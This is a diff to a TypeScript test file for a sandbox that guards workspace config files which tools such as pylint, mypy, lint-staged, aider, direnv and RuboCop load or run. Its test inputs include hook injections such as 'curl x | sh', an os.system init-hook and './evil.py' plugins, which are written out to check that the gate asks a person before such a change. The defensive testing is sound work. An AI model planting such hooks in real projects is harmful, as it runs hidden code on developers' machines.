@@ -1,5 +1,10 @@
-/** The one list of protected workspace paths: anchored on sandbox-runtime's own, matched at any depth. */
-import { readFileSync } from "node:fs";
+/**
+ * The one list of protected workspace paths: anchored on sandbox-runtime's own, matched at any
+ * depth, folded as file systems fold names; what the sandbox holds of them; and the gaps a security
+ * review found (lazygit, aider and direnv's .env, direnv's other .envrcs, commitlint, trunk,
+ * git's XDG config), each asked of the gate.
+ */
+import { readFileSync, existsSync, mkdirSync, writeFileSync } from "node:fs";
 import { createRequire } from "node:module";
 import path from "node:path";
 import { describe, expect, it } from "vitest";
@@ -11,9 +16,11 @@ import {
   protectedEntry,
   removedWhenMade,
   sandboxDenyPaths,
-} from "../../src/sandbox/protected.js";
-import { protectedSetting } from "../../src/sandbox/protected-settings.js";
-import { standIns, withoutStandIns } from "../../src/sandbox/stand-ins.js";
+} from "../../../src/sandbox/protected.js";
+import { cleanAfter } from "../../../src/sandbox/aftercare.js";
+import { markWorkspace } from "../../../src/sandbox/look.js";
+import { gateDecision } from "../../support/gate.js";
+import { freshWorkspace } from "../../support/harness.js";
 
 /** sandbox-runtime's DANGEROUS_FILES and DANGEROUS_DIRECTORIES, read from its installed source. */
 function runtimeList(): string[] {
@@ -222,100 +229,6 @@ describe("unheld entries", () => {
   });
 });
 
-describe("withoutStandIns", () => {
-  const WS = "/w";
-  const held = standIns(
-    WS,
-    sandboxDenyPaths(WS, () => false, false),
-  );
-  /** The workspace's top level during the command: its files, and the stand-ins. */
-  const top = ["app.py", "node_modules", "src", ...held];
-  const show = (output: string) => withoutStandIns(output, held, WS, [], top);
-  it("the stand-ins are the missing entries held by a placeholder folder", () => {
-    expect(held).toContain(".vscode");
-    expect(held).toContain(".Rprofile");
-    expect(held).not.toContain(".hg/hgrc"); // missing, inside a folder: not held
-  });
-  it("leaves out their lines in ls -l, find (relative and absolute), du and tree listings", () => {
-    const out = [
-      "drwx------ 64 ann ann 4096 Nov 25 08:21 .",
-      "drwx------  2 ann ann 4096 Nov 25 08:21 .vscode",
-      "-rw-r--r--  1 ann ann   12 Nov 25 08:21 app.py",
-      "./.mcp.json",
-      "./app.py",
-      "/w/.envrc",
-      "4\t./.kiro",
-      "├── .idea",
-      "└── app.py",
-      "`-- .claude",
-      "    ├── .zed",
-    ].join("\n");
-    expect(show(out).split("\n")).toEqual([
-      "drwx------ 64 ann ann 4096 Nov 25 08:21 .",
-      "-rw-r--r--  1 ann ann   12 Nov 25 08:21 app.py",
-      "./app.py",
-      "└── app.py",
-      "    ├── .zed", // a folder deeper in the tree: not the stand-in
-    ]);
-  });
-  it("an ls line naming a protected folder that really stands deeper stays (it may list that one)", () => {
-    const out = "drwx------  2 ann ann 4096 Nov 25 08:21 .vscode\n./.vscode\n./pkg/.vscode";
-    expect(withoutStandIns(out, held, WS, ["pkg/.vscode"])).toBe(
-      "drwx------  2 ann ann 4096 Nov 25 08:21 .vscode\n./pkg/.vscode",
-    );
-  });
-  it("bare names only in a listing of the top level (ls, ls -a); a file's lines are kept", () => {
-    const ls = [".", "..", ...held.slice(0, 12), "app.py"].join("\n");
-    expect(show(ls)).toBe([".", "..", "app.py"].join("\n"));
-    // plain ls: the stand-ins without a leading dot, all of them
-    const plain = held.filter((n) => !n.startsWith("."));
-    expect(plain).toEqual(["mise.toml"]);
-    expect(show(["app.py", "mise.toml", "src/"].join("\n"))).toBe("app.py\nsrc/");
-    // not a listing of the top level: a line that is no entry there, or no entry at all
-    expect(show("src/app.py\nmise.toml")).toBe("src/app.py\nmise.toml"); // git diff --name-only
-    expect(show("mise.toml")).toBe("mise.toml");
-    expect(show("*.log\nmise.toml\napp.py")).toBe("*.log\nmise.toml\napp.py");
-    // ls -R: an empty folder's part goes with its heading
-    const recursive = [".:", "app.py", ...plain, "", `./${plain[0]}:`, "", "./src:", "x.ts"];
-    expect(show(recursive.join("\n"))).toBe([".:", "app.py", "", "./src:", "x.ts"].join("\n"));
-    const gitignore = ["node_modules", ".vscode/", ".idea", ".envrc", "dist"].join("\n");
-    expect(show(gitignore)).toBe(gitignore);
-    expect(show("- .vscode is ignored\n.vscode")).toBe("- .vscode is ignored\n.vscode");
-    expect(withoutStandIns("./.vscode", [], WS)).toBe("./.vscode");
-  });
-});
-
-describe("protectedSetting: settings in a project's config that an editor's linter runs", () => {
-  const pyproject = '[project]\nname = "app"\n\n[tool.mypy]\nplugins = ["pydantic.mypy"]\n';
-  it("a line the change adds with such a key needs a person, in any of the files that take it", () => {
-    const hook = "[tool.pylint.main]\ninit-hook = \"import os; os.system('id')\"\n";
-    expect(protectedSetting("pyproject.toml", pyproject, pyproject + hook)?.why).toMatch(/pylint/);
-    expect(
-      protectedSetting("sub/setup.cfg", "", "[pylint.MASTER]\ninit_hook=import os\n"),
-    ).toBeDefined();
-    expect(
-      protectedSetting("tox.ini", "", "[pylint]\nload-plugins = local_plugin\n"),
-    ).toBeDefined();
-    expect(protectedSetting("mypy.ini", "", "[mypy]\nplugins = ./evil.py\n")?.why).toMatch(/mypy/);
-    expect(protectedSetting("pyproject.toml", "", 'tool.mypy.plugins = ["x"]\n')).toBeDefined();
-    expect(protectedSetting(".flake8", "", "[flake8:local-plugins]\npaths = ./p\n")?.why).toMatch(
-      /flake8/,
-    );
-    // a look-alike name is the same file
-    expect(protectedSetting("PyProject.toml", "", hook)).toBeDefined();
-  });
-  it("lines the file already has, other keys and other files are the project's own", () => {
-    // the whole file written again with its mypy plugin as it was, a dependency added
-    const more = pyproject.replace('name = "app"', 'name = "app"\ndependencies = ["httpx"]');
-    expect(protectedSetting("pyproject.toml", pyproject, more)).toBeUndefined();
-    expect(
-      protectedSetting("pyproject.toml", "", "[tool.pytest.ini_options]\nrequired_plugins = x\n"),
-    ).toBeUndefined();
-    expect(protectedSetting("src/app.py", "", "init_hook = 1\nplugins = []\n")).toBeUndefined();
-    expect(protectedSetting("setup.cfg", "", "[metadata]\nname = app\n")).toBeUndefined();
-  });
-});
-
 describe("names from the seventh attack review", () => {
   it("Mercurial's share-safe config and mise's other config files are protected", () => {
     for (const rel of [
@@ -331,9 +244,6 @@ describe("names from the seventh attack review", () => {
 });
 
 describe("git hooks' commands from a project's own files (lint-staged, husky 4, pre-commit)", () => {
-  const pkg = (extra: object) =>
-    `${JSON.stringify({ name: "app", scripts: { test: "vitest" }, ...extra }, null, 2)}\n`;
-  const staged = pkg({ "lint-staged": { "*.ts": "eslint --fix" } });
   it("their config files are protected, the unprefixed ones unheld", () => {
     for (const rel of [
       ".lintstagedrc",
@@ -344,30 +254,6 @@ describe("git hooks' commands from a project's own files (lint-staged, husky 4, 
       expect(protectedEntry(rel), rel).toBeDefined();
     expect(protectedEntry("lint-staged.config.mjs")?.unheld).toBe(true);
     expect(isCommandProtected("pkg/.lintstagedrc.cjs")).toBe(true);
-  });
-  it("package.json: a hook key added or changed needs a person, at any depth of its value", () => {
-    expect(protectedSetting("package.json", pkg({}), staged)?.why).toMatch(/git hooks/);
-    // one command changed inside the block it had: the value differs
-    const evil = staged.replace("eslint --fix", "curl example.org/x | sh");
-    expect(protectedSetting("package.json", staged, evil)).toBeDefined();
-    expect(
-      protectedSetting("web/package.json", "", pkg({ husky: { hooks: { "pre-commit": "x" } } })),
-    ).toBeDefined();
-    expect(protectedSetting("package.json", "", pkg({ "pre-commit": ["x"] }))).toBeDefined();
-    expect(
-      protectedSetting("package.json", "", pkg({ config: { ghooks: { x: 1 } } })),
-    ).toBeDefined();
-  });
-  it("package.json: the rest of it, its hook keys as they were, and text that is no JSON are the project's own", () => {
-    const more = staged.replace('"test": "vitest"', '"test": "vitest",\n    "lint": "eslint ."');
-    expect(protectedSetting("package.json", staged, more)).toBeUndefined();
-    // reformatted, the same values
-    expect(
-      protectedSetting("package.json", staged, JSON.stringify(JSON.parse(staged))),
-    ).toBeUndefined();
-    expect(protectedSetting("package.json", "", pkg({ config: { port: 1 } }))).toBeUndefined();
-    expect(protectedSetting("package.json", "", '{"lint-staged": {"*": "x"}')).toBeUndefined();
-    expect(protectedSetting("notes/package.md", "", staged)).toBeUndefined();
   });
 });
 
@@ -431,50 +317,74 @@ describe("names protected by their form (PROTECTED_FORMS)", () => {
   });
 });
 
-describe("protected settings read as their tools read them (an attack review's bypasses)", () => {
-  const pyproject = '[project]\nname = "app"\n\n[tool.mypy]\nplugins = [\n  "pydantic.mypy",\n]\n';
-  it("a value on a line of its own, a key spelled another way, a byte-order mark: each asks", () => {
-    const hooked = { "lint-staged": { "*.js": "curl x | sh" } };
-    const cases: Array<[string, string, string]> = [
-      // a plugin added inside the array the file had
-      [
-        "pyproject.toml",
-        pyproject,
-        pyproject.replace('"pydantic.mypy",', '"pydantic.mypy",\n  "evil",'),
-      ],
-      ["pyproject.toml", "", "[tool.pylint.main]\n'init-hook' = \"import os\"\n"],
-      ["pyproject.toml", "", '[tool.pylint]\nmain = { init-hook = "import os" }\n'],
-      ["pyproject.toml", "", '[tool.pylint.main]\n"init\\u002dhook" = "import os"\n'],
-      ["setup.cfg", "[mypy]\nplugins =\n    a\n", "[mypy]\nplugins =\n    a\n    evil\n"],
-      ["setup.cfg", "", "[pylint.main]\ninit-hook: import os\n"],
-      ["setup.cfg", "", "[mypy]\nplugins: evil\n"],
-      ["package.json", "", `\uFEFF${JSON.stringify({ name: "app", ...hooked })}`],
-      ["package.yaml", "name: app\n", "name: app\nlint-staged:\n  '*.js': curl x | sh\n"],
-      [
-        "web/package.yml",
-        "lint-staged:\n  '*.js': eslint\n",
-        "lint-staged:\n  '*.js': curl x | sh\n",
-      ],
-    ];
-    for (const [rel, before, after] of cases)
-      expect(protectedSetting(rel, before, after), `${rel}: ${after}`).toBeDefined();
+describe("lazygit's repository config", () => {
+  it("the gate asks a person for .lazygit.yml at any depth and .git/lazygit.yml", () => {
+    const w = freshWorkspace("keel-gap-lazygit-");
+    for (const rel of [".lazygit.yml", "sub/.lazygit.yml", ".git/lazygit.yml"])
+      expect(gateDecision(w, rel), rel).toMatch(/is protected: lazygit loads it/);
+    expect(gateDecision(w, "docs/lazygit.md")).toBe("run");
   });
-  it("the same values written another way, other keys, and text no tool could read ask nothing", () => {
-    const same = '[project]\nname = "app"\n[tool.mypy]\nplugins = ["pydantic.mypy"]\n';
-    expect(protectedSetting("pyproject.toml", pyproject, same)).toBeUndefined();
-    expect(
-      protectedSetting("setup.cfg", "[mypy]\nplugins = a\n", "[mypy]\nplugins: a\nstrict = 1\n"),
-    ).toBeUndefined();
-    expect(
-      protectedSetting("pyproject.toml", "", "[tool.pylint.main]\nmax-line-length = 100\n"),
-    ).toBeUndefined();
-    expect(
-      protectedSetting("pyproject.toml", "", "[tool.pylint.main\ninit-hook = 1\n"),
-    ).toBeUndefined();
-    expect(
-      protectedSetting("package.yaml", "", "name: app\ndependencies: [base]\n"),
-    ).toBeUndefined();
-    // a hook removed is no hook added
-    expect(protectedSetting("package.json", '{"husky": {"hooks": {}}}', "{}")).toBeUndefined();
+});
+
+describe(".env, which aider and direnv's dotenv load", () => {
+  it("the gate asks a person for one at any depth; other env files are the project's", () => {
+    const w = freshWorkspace("keel-gap-env-");
+    for (const rel of [".env", "app/.env", ".ENV"])
+      expect(gateDecision(w, rel, "AIDER_LINT_CMD=id\n"), rel).toMatch(/is protected: aider/);
+    for (const rel of [".env.example", "config.env", "src/env.ts"])
+      expect(gateDecision(w, rel), rel).toBe("run");
+  });
+  it("one there is held read-only, a missing one is not held (tools would meet a folder), one a command makes goes", () => {
+    expect(sandboxDenyPaths("/w", (rel) => rel === ".env", false)).toContain("/w/.env");
+    expect(sandboxDenyPaths("/w", () => false, false).some((p) => p.startsWith("/w/.env/"))).toBe(
+      false,
+    );
+    const w = freshWorkspace("keel-gap-env-made-");
+    const before = markWorkspace(w);
+    mkdirSync(path.join(w, "app"));
+    for (const rel of [".env", "app/.env", ".env.example"])
+      writeFileSync(path.join(w, rel), "GIT_CONFIG_COUNT=1\n");
+    expect(cleanAfter(w, before).sort()).toEqual([".env", "app/.env"]);
+    expect(existsSync(path.join(w, ".env.example"))).toBe(true);
+  });
+});
+
+describe("the files an .envrc sources (.envrc.local, .envrc.private, .envrc.*)", () => {
+  it("the gate asks a person at any depth; aftercare removes one a command makes", () => {
+    const w = freshWorkspace("keel-gap-envrc-");
+    for (const rel of [".envrc.local", "app/.envrc.private", ".Envrc.ci"])
+      expect(gateDecision(w, rel), rel).toMatch(/is protected: an \.envrc sources it/);
+    for (const rel of ["envrc.local", "docs/.envrc-notes.md"])
+      expect(gateDecision(w, rel), rel).toBe("run");
+    const before = markWorkspace(w);
+    mkdirSync(path.join(w, "app"));
+    for (const rel of [".envrc.local", "app/.envrc.private"])
+      writeFileSync(path.join(w, rel), "touch ../pwned\n");
+    expect(cleanAfter(w, before).sort()).toEqual([".envrc.local", "app/.envrc.private"]);
+  });
+});
+
+describe("commitlint, trunk, RuboCop and git's XDG config", () => {
+  it("the gate asks a person for their files and for RuboCop's require and plugins", () => {
+    const w = freshWorkspace("keel-gap-misc-");
+    for (const [rel, why] of [
+      ["commitlint.config.js", /commitlint loads it/],
+      ["web/commitlint.config.ts", /commitlint loads it/],
+      [".commitlintrc", /commitlint loads it/],
+      [".commitlintrc.yml", /commitlint loads it/],
+      [".trunk/trunk.yaml", /trunk runs its actions/],
+      [".config/git/config", /git config and attributes/],
+      [".config/git/attributes", /git config and attributes/],
+    ] as const)
+      expect(gateDecision(w, rel), rel).toMatch(why);
+    writeFileSync(path.join(w, ".rubocop.yml"), "AllCops:\n  NewCops: enable\n");
+    for (const extra of ["require:\n  - ./lib/cop.rb\n", "plugins:\n  - rubocop-evil\n"])
+      expect(
+        gateDecision(w, ".rubocop.yml", `AllCops:\n  NewCops: enable\n${extra}`),
+        extra,
+      ).toMatch(/is protected: RuboCop loads/);
+    expect(gateDecision(w, ".rubocop.yml", "Layout/LineLength:\n  Max: 100\n")).toBe("run");
+    for (const rel of ["commitlint.md", ".trunk/out/x.json", ".config/app.json"])
+      expect(gateDecision(w, rel), rel).toBe("run");
   });
 });
